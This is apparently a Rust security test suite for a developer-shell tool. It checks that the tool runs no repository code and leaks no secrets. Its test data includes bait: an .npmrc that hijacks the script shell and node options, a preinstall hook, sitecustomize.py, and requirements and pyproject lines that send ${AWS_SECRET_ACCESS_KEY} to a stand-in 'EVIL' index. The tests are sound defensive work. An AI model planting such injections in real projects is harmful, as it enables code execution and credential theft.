//! What devshell starts in a hostile repository: nothing of the repository, nowhere in it, by none
//! of its files' options, and with no secret on a command line.

use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;

use crate::support::{Fault, Index, Outcome, Package, Registry, Sandbox, Wheel, python, source, uv, wheel};

fn package(name: &str, version: &str) -> Wheel {
    wheel(name, version).module(&format!("{name}.py"), format!("VERSION = {version:?}\n"))
}

/// A repository full of bait, on a host whose programs write down how they are started.
struct Hostile {
    index: Index,
    _registry: Registry,
    sandbox: Sandbox,
}

impl Hostile {
    fn new(programs: &[&str]) -> Self {
        let index = Index::with([package("alpha", "1.0")]);
        let registry = Registry::new();
        registry.publish([Package::clone(&crate::support::package("hello", "1.0.0").bin("hello", "hello.js"))]);
        registry.offer_search();
        let mut sandbox = Sandbox::new().with_registry(&registry).with_index(&index);
        let host = sandbox.host_directory("hostbin");
        for name in programs {
            wrap(&sandbox, &host, name);
        }
        let hostile = Self { index, _registry: registry, sandbox };
        hostile.lay_bait();
        // As careless as PATH gets: empty and relative entries, and the repository's own.
        let project = hostile.sandbox.project().display().to_string();
        let path = format!(
            ":.:node_modules/.bin:{project}:{project}/node_modules/.bin:{}",
            hostile.sandbox.path().to_str().unwrap()
        );
        let mut hostile = hostile;
        hostile.sandbox.set_path(path);
        hostile
    }

    fn lay_bait(&self) {
        let (sandbox, ran) = (&self.sandbox, self.ran());
        sandbox.manifest(
            r#"{ "python": { "version": ">=3.8", "from": "host", "requirements": ["requirements.txt"] },
                 "tools": { "host:git": ">=1", "host:deploy": "*" } }"#,
        );
        sandbox.write("requirements.txt", "alpha\n");
        let code = format!("open({:?}, 'a').write(__name__ + '\\n')\n", ran.to_str().unwrap());
        for name in ["pip.py", "sitecustomize.py", "usercustomize.py", "site.py", "sys.py", "runpy.py", "keyring.py"] {
            sandbox.write(name, &code);
        }
        sandbox.write("pip/__main__.py", &code);
        sandbox.write("uv.toml", "index-url = \"http://127.0.0.1:1/bait\"\nno-index = true\n");
        sandbox.write(".python-version", "3.0.0\n");
        sandbox.write("pip.conf", "[global]\nindex-url = http://127.0.0.1:1/bait\n");
        sandbox.write(".npmrc", "script-shell=./evil\nnode-options=--require ./evil.js\nignore-scripts=false\n");
        sandbox.write("evil.js", format!("require('fs').appendFileSync('{}', 'node')\n", ran.display()));
        sandbox.write("package.json", r#"{ "scripts": { "preinstall": "./evil" }, "workspaces": ["**"] }"#);
        let script = format!("#!/bin/sh\necho \"$0\" >>'{}'\n", ran.display());
        for name in ["evil", "python3", "python", "pip", "uv", "git", "npm", "node", "deploy", "keyring"] {
            sandbox.write_executable(name, &script);
            sandbox.write_executable(format!("node_modules/.bin/{name}"), &script);
        }
    }

    /// What the bait writes to.
    fn ran(&self) -> PathBuf {
        self.sandbox.root().join("ran")
    }

    /// How programs of the host were started: `PROGRAM DIRECTORY ARGUMENTS`.
    fn started(&self) -> Vec<String> {
        let log = fs_err::read_to_string(self.sandbox.root().join("started")).unwrap_or_default();
        log.lines().map(str::to_owned).collect()
    }

    /// Runs a verb, and expects that nothing of the repository was started and nothing in it.
    #[track_caller]
    fn run(&self, arguments: &[&str]) -> Outcome {
        let strace = which::which("strace").expect("strace is not installed, and this test is about it");
        let trace = self.sandbox.root().join("trace");
        let project = self.sandbox.project();
        let outcome = self
            .sandbox
            // The filter is the kernel's, so that other calls are not slower.
            .program(&strace, &["-f", "--seccomp-bpf", "-qq", "-s", "4096", "-e", "trace=execve,execveat", "-o"])
            .arg(&trace)
            .arg(crate::support::DEVSHELL)
            .args(arguments)
            .env("PYTHONPATH", project)
            .env("PYTHONSTARTUP", project.join("pip.py"))
            .env("NODE_OPTIONS", "--require ./evil.js")
            .env("UV_CONFIG_FILE", project.join("uv.toml"))
            // Nothing but the loopback can be reached.
            .env("HTTPS_PROXY", "http://127.0.0.1:1")
            .env("NO_PROXY", "127.0.0.1")
            .env("DEVSHELL_TIMEOUT", "5")
            .run();
        let ran = fs_err::read_to_string(self.ran()).unwrap_or_default();
        assert_eq!(ran, "", "{arguments:?} ran code of the repository: {outcome}");
        let started = self.started();
        let inside = format!(" {}", project.display());
        assert!(!started.iter().any(|line| line.contains(&inside)), "{arguments:?} in the repository: {started:?}");
        let text = fs_err::read_to_string(&trace).unwrap();
        let own = format!("execve(\"{}", project.display());
        let relative =
            |line: &&str| line.contains(&own) || line.contains("execve(\"./") || line.contains("execve(\"../");
        let found: Vec<&str> = text.lines().filter(relative).filter(|line| line.ends_with(" = 0")).collect();
        assert!(found.is_empty(), "{arguments:?} started {found:?}");
        outcome
    }
}

/// Puts a program on the host that writes down how it is started and becomes the real one.
fn wrap(sandbox: &Sandbox, host: &std::path::Path, name: &str) {
    let real = match name {
        "python3" => python().to_owned(),
        "uv" => uv().to_owned(),
        _ => sandbox.find(name),
    };
    let log = sandbox.root().join("started");
    let script = format!(
        "#!/bin/sh\necho \"{name} $(pwd -P) $*\" >>'{}'\nenv >>'{}'\nexec '{}' \"$@\"\n",
        log.display(),
        sandbox.root().join("variables").display(),
        real.display()
    );
    sandbox.write_executable(host.join(name), &script);
}

#[test]
#[cfg(target_os = "linux")]
fn no_verb_runs_anything_of_a_repository() {
    let mut hostile = Hostile::new(&["python3", "uv", "git"]);
    let deploy = hostile.sandbox.root().join("hostbin/deploy");
    hostile.sandbox.write_executable(&deploy, &format!("#!/bin/sh\necho deploy >>'{}'\n", hostile.ran().display()));
    // It is not allowed, and nothing is locked.
    for verb in [&["on-prompt", "bash", ""][..], &["list"], &["doctor"], &["search", "hello"]] {
        let _ = hostile.run(verb);
    }
    hostile.run(&["lock"]).success();
    for verb in [
        &["lock", "--check"][..],
        &["install"],
        &["list"],
        &["env"],
        &["which", "alpha"],
        &["which", "git"],
        &["why", "git"],
        &["why", "python"],
        &["outdated"],
        &["update", "python"],
        &["doctor"],
        &["export", "requirements"],
        &["verify"],
        &["on-prompt", "bash", ""],
    ] {
        let _ = hostile.run(verb);
    }
    let started = hostile.started();
    for name in ["python3", "uv", "git"] {
        assert!(started.iter().any(|line| line.starts_with(&format!("{name} "))), "{name}: {started:?}");
    }
    // The sandbox of the next test has another PATH.
    hostile.sandbox.set_path("");
}

/// As in CI, where everything lies below the checkout.
#[test]
fn a_cache_in_the_repository_heeds_nothing_of_the_repository() {
    let index = Index::with([package("alpha", "1.0")]);
    let sandbox = Sandbox::new().with_index(&index).with_python();
    sandbox.manifest(r#"{ "python": { "version": ">=3.8", "from": "host", "requirements": ["r.txt"] } }"#);
    sandbox.write("r.txt", "alpha\n");
    sandbox.write("uv.toml", "no-index = true\nindex-url = \"http://127.0.0.1:1/\"\nno-binary = true\n");
    sandbox.write("pyproject.toml", "[tool.uv]\nno-index = true\n[tool.uv.workspace]\nmembers = [\"**\"]\n");
    sandbox.write(".python-version", "3.0.0\n");
    let home = sandbox.project().join(".devshell");
    for arguments in [&["lock"][..], &["install"], &["run", "--", "python", "-c", "import alpha"]] {
        sandbox.devshell(arguments).env("DEVSHELL_HOME", &home).run().success();
    }
}

/// Where only pip can fetch uv: closed networks.
#[test]
#[cfg(target_os = "linux")]
fn pip_is_the_hosts_and_not_the_repositorys() {
    let hostile = Hostile::new(&["python3", "uv"]);
    hostile.run(&["lock"]).success();
    hostile.sandbox.remove(hostile.sandbox.root().join("hostbin/uv"));
    // An index that only pip knows of: devshell reads no settings of pip's verbs.
    let settings = format!("[download]\nindex-url = {}\n", hostile.index.url());
    hostile.sandbox.write(hostile.sandbox.home().join(".config/pip/pip.conf"), settings);
    for verb in [&["install"][..], &["update", "python"], &["run", "--", "true"]] {
        hostile.index.forget_requests();
        hostile.sandbox.remove(hostile.sandbox.root().join("started"));
        let _ = hostile.run(verb);
        let started = hostile.started();
        let pips: Vec<&String> = started.iter().filter(|line| line.contains("-m pip")).collect();
        let is_isolated = |line: &&String| line.contains(" -I -m pip download ");
        assert!(!pips.is_empty() && pips.iter().all(is_isolated), "{verb:?}: {started:?}");
        // It asked the index that its settings name, and not that of the repository.
        assert!(!hostile.index.requests_for("uv").is_empty(), "{verb:?}: {started:?}");
    }
}

/// A tool whose name only the manifest knows may do anything when it is started.
#[test]
fn a_command_that_only_the_manifest_names_is_started_by_no_question() {
    let mut sandbox = Sandbox::new();
    let host = sandbox.host_directory("hostbin");
    let ran = sandbox.root().join("ran");
    sandbox.write_executable(
        host.join("deploy"),
        &format!("#!/bin/sh\necho ran $* >>'{}'; echo deploy 2.1\n", ran.display()),
    );
    for (requirement, asks) in [("*", false), (">=2", true)] {
        sandbox.manifest(format!(r#"{{ "tools": {{ "host:deploy": "{requirement}" }} }}"#));
        sandbox.run(&["lock"]).success();
        for verb in [&["list"][..], &["--offline", "doctor"], &["lock", "--check"], &["outdated"]] {
            let _ = sandbox.run(verb);
            assert!(!ran.exists(), "{requirement} {verb:?}");
        }
        sandbox.run(&["--offline", "doctor"]).stdout_contains("good   host tool");
        for verb in [&["env"][..], &["which", "deploy"], &["why", "deploy"], &["run", "--", "true"]] {
            sandbox.remove(sandbox.cache());
            sandbox.remove(&ran);
            sandbox.run(verb).success();
            assert_eq!(ran.exists(), asks, "{requirement} {verb:?}");
        }
        sandbox.remove(&ran);
        sandbox.run(&["run", "deploy", "now"]).success().stdout("deploy 2.1\n");
        sandbox.remove(&ran);
    }
}

/// A project that wants `alpha`, and a server that only the repository knows.
struct Reaching {
    index: Index,
    evil: Index,
    sandbox: Sandbox,
}

impl Reaching {
    fn new() -> Self {
        let (index, evil) = (Index::with([package("alpha", "1.0")]), Index::with([package("alpha", "9.9")]));
        let sandbox = Sandbox::new().with_index(&index).with_python();
        let reaching = Self { index, evil, sandbox };
        reaching.manifest("requirements.txt");
        reaching
    }

    fn manifest(&self, file: &str) {
        let extras = if file == "requirements.txt" { "" } else { r#", "extras": ["web"], "groups": ["dev"]"# };
        self.sandbox.manifest(format!(
            r#"{{ "python": {{ "version": ">=3.8", "from": "host", "requirements": ["{file}"]{extras} }} }}"#
        ));
    }

    fn lock(&self) -> Outcome {
        let secrets = ["AWS_SECRET_ACCESS_KEY", "UV_INDEX_CORP_USERNAME", "UV_INDEX_CORP_PASSWORD"];
        let run = secrets.into_iter().fold(self.sandbox.devshell(&["lock"]), |run, name| run.env(name, "CANARY"));
        run.run()
    }

    /// With this text there is no lock, and the server is not asked.
    #[track_caller]
    fn refuses(&self, file: &str, text: &str, place: &str) {
        self.sandbox.write(file, text.replace("EVIL/", self.evil.url()));
        let outcome = self.lock();
        let said = format!("devshell: the packages of {place} cannot be locked\n");
        outcome.code(5).stderr_contains(&said).stderr_contains("\nhint: ").stderr_lacks("CANARY");
        assert_eq!(self.evil.requests(), [""; 0], "{text}");
        assert!(!self.sandbox.project().join("devshell.lock").exists(), "{text}");
    }
}

#[test]
fn a_requirements_file_neither_builds_nor_reaches_out() {
    let reaching = Reaching::new();
    for line in [
        "--no-binary alpha",
        "--no-binary :all:",
        "--only-binary=:none:",
        "--find-links EVIL/",
        "-f EVIL/${AWS_SECRET_ACCESS_KEY}/",
        "-r EVIL/r.txt",
        "-r EVIL/${AWS_SECRET_ACCESS_KEY}/r.txt",
        "-c EVIL/c.txt",
        "--index-url EVIL/",
        "--index-url EVIL/${AWS_SECRET_ACCESS_KEY}/",
        "--extra-index-url EVIL/",
        "-i http://${AWS_SECRET_ACCESS_KEY}@127.0.0.1:1/",
        "alpha @ EVIL/alpha-9.9-py3-none-any.whl",
        "alpha @ EVIL/${AWS_SECRET_ACCESS_KEY}/alpha-9.9-py3-none-any.whl",
        "EVIL/alpha-9.9-py3-none-any.whl",
        "git+EVIL/alpha.git",
        "beta @ git+EVIL/beta.git",
        "-e .",
        "-e git+EVIL/alpha.git#egg=alpha",
        ".",
        "./beta",
        "beta @ file:///beta",
        "--trusted-host 127.0.0.1",
        "--no-index",
        "beta --config-settings=x=y",
        "beta --global-option=x",
        "beta==${AWS_SECRET_ACCESS_KEY}",
        "--find-links \\\n EVIL/",
    ] {
        reaching.refuses("requirements.txt", &format!("alpha\n{line}\n"), "requirements.txt:2");
    }
    // Also where another file refers to it.
    reaching.sandbox.write("deps/base.in", "# ours\n\n--no-binary alpha\n");
    reaching.refuses("requirements.txt", "alpha\n-r deps/base.in\n", "deps/base.in:3");
}

#[test]
fn what_is_harmless_in_a_requirements_file_stays_so() {
    let reaching = Reaching::new();
    let own = reaching.index.url().trim_end_matches('/');
    let text = format!(
        "--index-url {own}\n--extra-index-url {own}/\n--pre\n--prefer-binary\n--require-hashes\n\nalpha --hash=sha256:{}\n",
        package("alpha", "1.0").sha256()
    );
    reaching.sandbox.write("requirements.txt", text);
    reaching.lock().success();
    assert_eq!(reaching.sandbox.lock()["python"][0]["artifacts"][0]["version"], "1.0");
    // uv's words are about the file, not about its copy.
    reaching.sandbox.write("requirements.txt", "alpha >>> 1\n");
    let outcome = reaching.lock();
    outcome.code(5).stderr_contains("`requirements.txt`").stderr_lacks("file-0").stderr_lacks("scratch-1");
}

#[test]
fn a_pyproject_neither_builds_nor_reaches_out() {
    let reaching = Reaching::new();
    reaching.manifest("pyproject.toml");
    let head = "[project]\nname = \"shop\"\nversion = \"1\"\n";
    let index = "[[tool.uv.index]]\nname = \"corp\"\nurl = \"EVIL/\"\n";
    for (text, line) in [
        (format!("{head}dependencies = [\"alpha @ EVIL/alpha-9.9-py3-none-any.whl\"]\n"), 4),
        (format!("{head}dependencies = [\"alpha @ EVIL/${{AWS_SECRET_ACCESS_KEY}}/alpha-9.9-py3-none-any.whl\"]\n"), 4),
        (format!("{head}dependencies = [\n\"alpha\",\n\"beta @ git+EVIL/b.git\"]\n"), 6),
        (format!("{head}optional-dependencies = {{ web = [\"b @ EVIL/b.whl\"] }}\n"), 4),
        (format!("[dependency-groups]\ndev = [{{ include-group = \"b\" }}]\nb = [\"b @ EVIL/b.whl\"]\n{head}"), 3),
        (format!("{head}dependencies = [\"alpha\"]\n[tool.uv.sources]\nalpha = {{ index = \"corp\" }}\n{index}"), 4),
        (format!("{head}dependencies = [\"alpha\"]\n[tool.uv.sources]\nalpha = {{ git = \"EVIL/a.git\" }}\n"), 4),
        (format!("{head}dependencies = [\"alpha\"]\n[tool.uv.sources]\nalpha = {{ url = \"EVIL/a.whl\" }}\n"), 4),
        (format!("{head}dependencies = [\"alpha\"]\n[tool.uv.sources]\nalpha = {{ path = \"..\" }}\n"), 4),
        (format!("{head}dynamic = [\"dependencies\"]\n"), 4),
    ] {
        reaching.refuses("pyproject.toml", &text, &format!("pyproject.toml:{line}"));
    }
    // Settings that only uv would heed are not handed to it, and neither is a way to build.
    let trace = reaching.sandbox.root().join("trace");
    reaching.sandbox.write("be.py", format!("open({:?}, 'a').write('ran')\n", trace.to_str().unwrap()));
    let text = format!(
        "{head}dependencies = [\"alpha\"]\n[project.optional-dependencies]\nweb = []\n[dependency-groups]\ndev = []\n\
         [build-system]\nrequires = []\nbuild-backend = \"be\"\nbackend-path = [\".\"]\n\
         [tool.uv]\nno-build = false\nno-binary = true\nindex-url = \"EVIL/\"\nextra-index-url = [\"EVIL/\"]\n\
         find-links = [\"EVIL/\"]\ncache-keys = [{{ file = \"x\" }}]\nreinstall = true\nno-cache = true\n\
         extra-build-dependencies = {{ alpha = [\"b\"] }}\n[tool.uv.sources]\nother = {{ git = \"EVIL/o.git\" }}\n"
    );
    reaching.sandbox.write("pyproject.toml", text.replace("EVIL/", reaching.evil.url()));
    reaching.lock().success();
    assert_eq!(reaching.sandbox.lock()["python"][0]["artifacts"][0]["version"], "1.0");
    assert!(reaching.evil.requests().is_empty() && !trace.exists());
}

/// uv is given the lock and nothing of the project beside it.
#[test]
fn a_uv_lock_is_read_apart_from_its_repository() {
    let reaching = Reaching::new();
    reaching.manifest("uv.lock");
    let trace = reaching.sandbox.root().join("trace");
    let head = "[project]\nname = \"shop\"\nversion = \"1\"\nrequires-python = \">=3.8\"\ndependencies = [\"alpha\"]\n\
        [project.optional-dependencies]\nweb = [\"alpha\"]\n[dependency-groups]\ndev = [\"alpha\"]\n";
    reaching.sandbox.write("pyproject.toml", head);
    let settings =
        [("UV_DEFAULT_INDEX", reaching.index.url()), ("UV_PYTHON_DOWNLOADS", "never"), ("UV_NO_CONFIG", "1")];
    let lock = reaching.sandbox.program(uv(), &["lock"]).envs(settings).env("UV_PYTHON", python());
    lock.env("UV_CACHE_DIR", reaching.sandbox.root().join("uv-cache")).run().success();
    reaching.sandbox.write("be.py", format!("open({:?}, 'a').write('ran')\n", trace.to_str().unwrap()));
    let evil = "[build-system]\nrequires = []\nbuild-backend = \"be\"\nbackend-path = [\".\"]\n\
        [tool.uv]\nindex-url = \"EVIL/\"\nfind-links = [\"EVIL/\"]\nno-build = false\nupgrade = true\n\
        [tool.uv.workspace]\nmembers = [\"**\"]\n";
    reaching.sandbox.write("pyproject.toml", format!("{head}{evil}").replace("EVIL/", reaching.evil.url()));
    reaching.sandbox.write("uv.toml", format!("index-url = {:?}\n", reaching.evil.url()));
    reaching.sandbox.write(".python-version", "3.0.0\n");
    reaching.index.forget_requests();
    reaching.lock().success();
    assert_eq!(reaching.sandbox.lock()["python"][0]["artifacts"][0]["version"], "1.0");
    assert!(reaching.evil.requests().is_empty() && reaching.index.requests().is_empty() && !trace.exists());
}

/// A lock that names sources asks for building as little as a requirements file does.
#[test]
fn a_lock_with_sources_builds_nothing_that_the_manifest_does_not_allow() {
    let index = Index::new();
    let sandbox = Sandbox::new().with_index(&index).with_python();
    index.publish([source(package("source", "1.0"))]);
    let manifest = |allowed: &str| {
        sandbox.manifest(format!(
            r#"{{ "python": {{ "version": ">=3.8", "from": "host", "requirements": ["r.txt"], "allow-build": [{allowed}] }} }}"#
        ));
    };
    sandbox.write("r.txt", "source\n");
    manifest(r#""source""#);
    sandbox.run(&["lock"]).success();
    // Without the source, none of it can run.
    sandbox.remove(sandbox.cache());
    sandbox.remove(sandbox.data());
    index.forget_requests();
    let lock = sandbox.read("devshell.lock");
    for (allowed, in_lock) in [("", "[]"), (r#""other""#, r#"["other"]"#)] {
        manifest(allowed);
        let mut json: serde_json::Value = serde_json::from_str(&lock).unwrap();
        json["python"][0]["allow-build"] = serde_json::from_str(in_lock).unwrap();
        if allowed.is_empty() {
            json["python"][0].as_object_mut().unwrap().remove("allow-build");
        }
        sandbox.write("devshell.lock", json.to_string());
        for verb in [&["install"][..], &["run", "--", "true"]] {
            let outcome = sandbox.run(verb);
            assert!(!outcome.ended_well(), "{outcome}");
            outcome.stderr_contains("source").stderr_contains("allow-build");
            assert_eq!(index.downloads(), [""; 0], "{allowed} {verb:?}");
        }
    }
    // With leave it is built, as before.
    manifest(r#""source""#);
    sandbox.write("devshell.lock", &lock);
    sandbox.run(&["run", "--", "python", "-c", "import source; print(source.VERSION)"]).success().stdout("1.0\n");
    assert_eq!(index.downloads(), ["source-1.0.tar.gz"]);
}

#[test]
fn no_secret_is_on_a_command_line_or_in_a_file_for_all() {
    let (public, private) = (Index::with([package("alpha", "1.0")]), Index::with([package("inner", "1.0")]));
    let mut sandbox = Sandbox::new().with_index(&public);
    public.publish([source(package("source", "1.0"))]);
    let host = sandbox.host_directory("hostbin");
    for name in ["python3", "uv"] {
        wrap(&sandbox, &host, name);
    }
    public.require_password("you", "t0psecret");
    private.require_password("me", "s3cret");
    sandbox.write(sandbox.home().join(".netrc"), "machine 127.0.0.1 login you password t0psecret\n");
    let config = format!(r#"{{ "registries": {{ "pypi:inner": "{}" }} }}"#, private.url_with("me", "s3cret"));
    sandbox.config(config);
    sandbox.manifest(
        r#"{ "python": { "version": ">=3.8", "from": "host", "requirements": ["r.txt"], "allow-build": ["source"] } }"#,
    );
    sandbox.write("r.txt", "alpha\ninner\nsource\n");
    sandbox.run(&["lock"]).success();
    let script = "import alpha, inner, source; print(alpha.VERSION, inner.VERSION, source.VERSION)";
    sandbox.run(&["run", "--", "python", "-c", script]).success().stdout("1.0 1.0 1.0\n");
    // A mistake on the way shows none, either.
    private.fault("/simple/inner/", Fault::Status(500, usize::MAX));
    sandbox.remove(sandbox.cache());
    sandbox.remove("devshell.lock");
    // uv would wait for longer each time before it asks once more.
    sandbox.devshell(&["lock"]).env("UV_HTTP_RETRIES", "0").run().code(5).stderr_lacks("s3cret");
    let started = sandbox.read(sandbox.root().join("started"));
    assert!(started.contains("uv ") && !started.contains("s3cret") && !started.contains("t0psecret"), "{started}");
    // uv has it by a variable.
    assert!(sandbox.read(sandbox.root().join("variables")).contains("UV_DEFAULT_INDEX=http://you:t0psecret@"));
    let mode = |path: &PathBuf| fs_err::symlink_metadata(path).unwrap().permissions().mode();
    for place in [sandbox.cache(), sandbox.data()] {
        for path in crate::support::tree(&place).into_keys().map(|path| place.join(path)) {
            let is_open = path.is_file() && mode(&path) & 0o077 != 0;
            let text = if is_open { fs_err::read(&path).unwrap_or_default() } else { Vec::new() };
            let text = String::from_utf8_lossy(&text).into_owned();
            assert!(!text.contains("s3cret") && !text.contains("t0psecret"), "{}", path.display());
        }
    }
}
